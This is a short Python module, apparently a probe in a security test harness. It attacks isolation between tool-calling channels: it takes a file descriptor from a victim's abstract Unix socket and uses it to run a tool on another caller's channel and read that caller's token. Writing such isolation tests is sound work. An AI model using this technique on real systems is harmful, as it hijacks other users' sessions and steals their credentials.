"""Calls tools by the channel of another call, which gives it to whoever connects."""

import os
import socket

from support.attempts import attempt
from support.channel import Channel, own_channel, reach_called, victim_socket


def attack(target):
    own = own_channel(target)
    reach_called(own)

    def given():
        with socket.socket(socket.AF_UNIX) as victim:
            victim.settimeout(2)
            victim.connect("\0" + victim_socket(target["token"]))
            (descriptor, *_) = socket.recv_fds(victim, 1, 1)[1]
        other = socket.socket(fileno=descriptor)
        if os.fstat(descriptor).st_ino == os.fstat(own.stream.fileno()).st_ino:
            return None
        return f"it says {Channel(other).run('called.listed')['token']}"

    return attempt({"an abstract socket": given})
